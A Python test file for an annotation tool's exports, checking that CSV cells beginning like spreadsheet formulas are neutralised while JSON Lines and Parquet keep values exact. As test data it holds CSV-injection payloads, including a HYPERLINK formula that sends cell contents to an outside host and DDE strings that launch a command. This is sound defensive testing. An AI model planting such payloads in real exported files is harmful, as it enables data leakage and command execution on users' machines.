"""CSV injection: no cell of an exported CSV file begins like a formula, whatever the dataset
texts, categories, field names and participants' comments hold; JSON Lines and Parquet keep
every value exactly."""

import csv
import io
import json
import re
from pathlib import Path

import pandas as pd
import pytest
from django.contrib.auth.models import User

from prb_annotate.campaigns.annotating import Answers, submit
from prb_annotate.campaigns.assignment import next_assignment
from prb_annotate.campaigns.lifecycle import add_member, create_campaign, set_status
from prb_annotate.datasets.importing import import_upload
from prb_annotate.exports.export import export_split
from prb_annotate.formats import spreadsheets
from prb_annotate.formats.spreadsheets import FORMULA_STARTS, neutralised_cell, original_cell
from prb_annotate.models import Campaign
from tests.support.exports import jsonl

LEAK = '=HYPERLINK("http://example.org/?leak="&B2,"x")'
HOSTILE = ["=1+1", "+cmd", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\tcalc", "\r=1", "'=1"]


def hostile_records() -> list[dict]:
    rows = []
    for index, text in enumerate(HOSTILE):
        rows.append(
            {
                "id": f"{text}-{index}" if index % 2 else f"p{index}",
                "question": text,
                "profile": [{"id": "post", "category": "x", "text": text}],
                "rubric_aspects": [],
                "narrative": text,
                "category": "=cmd|' /C calc'!A0" if index % 2 else "@Category",
                "chosen": text,
                "rejected": f"{text} (rejected)",
                "=field": text,
                "-3": -3,
            }
        )
    return rows


@pytest.fixture
def hostile_campaign(db: None) -> Campaign:
    dataset = import_upload(jsonl(hostile_records()), "hostile.jsonl", "hostile").dataset
    campaign = create_campaign(dataset, "=HYPERLINK(1)", k=1, seed=1)
    set_status(campaign, Campaign.Status.ACTIVE)
    user = User.objects.create(username="=alice")
    add_member(campaign, user)
    while (assignment := next_assignment(campaign, user)) is not None:
        answers = Answers(
            quality_chosen=dict.fromkeys(campaign.quality_criteria, 5),
            quality_rejected=dict.fromkeys(campaign.quality_criteria, 4),
            rubric_fit="chosen",
            differentiator="preference",
            confidence="high",
            comment=LEAK,
        )
        submit(assignment.pk, user, answers, client_token=f"t-{assignment.pk}")
    return campaign


def csv_cells(folder: Path) -> list[tuple[str, str]]:
    cells = []
    for path in sorted(folder.rglob("*.csv")):
        with path.open(encoding="utf-8", newline="") as file:
            rows = list(csv.reader(file))
            # A carriage return inside a cell stays inside it: every row is whole.
            assert {len(row) for row in rows} == {len(rows[0])}, path
            for row in rows:
                cells += [(path.relative_to(folder).as_posix(), cell) for cell in row]
    return cells


def test_it_writes_no_cell_that_a_spreadsheet_would_run(
    hostile_campaign: Campaign, tmp_path: Path
) -> None:
    """Every cell of the records and the annotations, the header row included, starts with
    anything but a formula character; the participant's comment is among them, neutralised."""
    export_split(hostile_campaign, tmp_path / "csv", subset="all", fmt="csv", with_validation=True)
    cells = csv_cells(tmp_path / "csv")
    assert len({name for name, _ in cells}) == 3  # two categories and the annotations
    dangerous = [(name, cell) for name, cell in cells if cell.startswith(FORMULA_STARTS)]
    assert dangerous == [(name, "-3") for name, cell in dangerous]  # a number, not a formula
    values = {cell for _, cell in cells}
    assert "'" + LEAK in values
    assert {"'=1+1", "'+cmd", "'@SUM(A1:A9)", "'\tcalc", "'\r=1", "''=1", "'=field"} <= values
    assert "'=alice" not in values  # annotators are pseudonyms, not usernames
    # The rule is undone exactly by taking one apostrophe off.
    assert {original_cell(cell) for _, cell in cells} >= {LEAK, *HOSTILE, "=field"}


def test_it_keeps_json_lines_and_parquet_exact(hostile_campaign: Campaign, tmp_path: Path) -> None:
    for fmt in ("jsonl", "parquet"):
        export_split(hostile_campaign, tmp_path / fmt, subset="all", fmt=fmt)
    lines = [
        json.loads(line)
        for path in sorted((tmp_path / "jsonl").glob("*/test.jsonl"))
        for line in path.read_text(encoding="utf-8").splitlines()
    ]
    assert sorted(row["question"] for row in lines) == sorted(HOSTILE)
    assert {row["=field"] for row in lines} == set(HOSTILE)
    annotations = pd.read_json(tmp_path / "jsonl" / "annotations.jsonl", lines=True)
    assert set(annotations["comment"]) == {LEAK}
    parquet = pd.read_parquet(tmp_path / "parquet" / "annotations.parquet")
    assert set(parquet["comment"]) == {LEAK}
    records = pd.concat(
        pd.read_parquet(path) for path in sorted((tmp_path / "parquet").glob("*/test.parquet"))
    )
    assert sorted(records["chosen"]) == sorted(HOSTILE)


def test_it_reads_the_neutralised_csv_in_pandas_as_text_and_numbers(
    hostile_campaign: Campaign, tmp_path: Path
) -> None:
    export_split(hostile_campaign, tmp_path / "csv", subset="all", fmt="csv")
    annotations = pd.read_csv(tmp_path / "csv" / "annotations.csv")
    assert set(annotations["comment"]) == {"'" + LEAK}
    assert annotations["quality_chosen_correctness"].tolist() == [5] * len(HOSTILE)
    records = pd.concat(pd.read_csv(path) for path in (tmp_path / "csv").glob("*/test.csv"))
    assert set(records["-3"]) == {-3}


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "+1"),
        ("-0.5", "-0.5"),
        ("-1e-9", "-1e-9"),
        ("-1+1", "'-1+1"),
        ("@x", "'@x"),
        ("\t=1", "'\t=1"),
        ("\rx", "'\rx"),
        ("'x", "''x"),
        ("plain", "plain"),
        ("", ""),
        ("a=1", "a=1"),
    ],
)
def test_it_neutralises_a_cell_as_owasp_says_and_undoes_it_exactly(value: str, cell: str) -> None:
    assert neutralised_cell(value) == cell
    assert original_cell(neutralised_cell(value)) == value


def test_every_csv_writer_goes_through_the_neutralising_module() -> None:
    """No module writes CSV by itself: ``csv.writer``, ``csv.DictWriter`` and pandas'
    ``to_csv`` appear in the neutralising modules only (``formats/spreadsheets.py``, and
    ``evaluation/spreadsheet_cells.py`` for ``compare --format csv``), so a new CSV download
    cannot forget the rule. (Readers of CSV are free to use the csv module.)"""
    root = Path(__file__).resolve().parents[2]
    allowed = {
        root / "prb_annotate" / "formats" / "spreadsheets.py",
        root / "evaluation" / "spreadsheet_cells.py",
    }
    assert all(path.is_file() for path in allowed), allowed
    writers = re.compile(r"\bcsv\.(writer|DictWriter)\(|\.to_csv\(")
    offenders = [
        f"{path.relative_to(root)}:{number}"
        for folder in ("prb_annotate", "evaluation")
        for path in sorted((root / folder).rglob("*.py"))
        if path not in allowed
        for number, line in enumerate(path.read_text().splitlines(), 1)
        if writers.search(line)
    ]
    assert not offenders, offenders


def test_the_minimal_quoting_writer_still_neutralises_and_keeps_carriage_returns() -> None:
    """Prolific's files quote only where CSV needs it, yet a formula is still text and a
    carriage return inside a cell still reads back inside its cell."""
    buffer = io.StringIO()
    out = spreadsheets.writer(buffer, quote_all=False, lineterminator="\n")
    out.writerows([("PID1", "1.00"), ("PID2", "=HYPERLINK(1)"), ("PID3", "two\rlines")])
    lines = buffer.getvalue().split("\n")
    assert lines[0] == "PID1,1.00"
    assert lines[1] == "PID2,'=HYPERLINK(1)"
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows[2] == ["PID3", "two\rlines"]
    assert [original_cell(cell) for cell in rows[1]] == ["PID2", "=HYPERLINK(1)"]
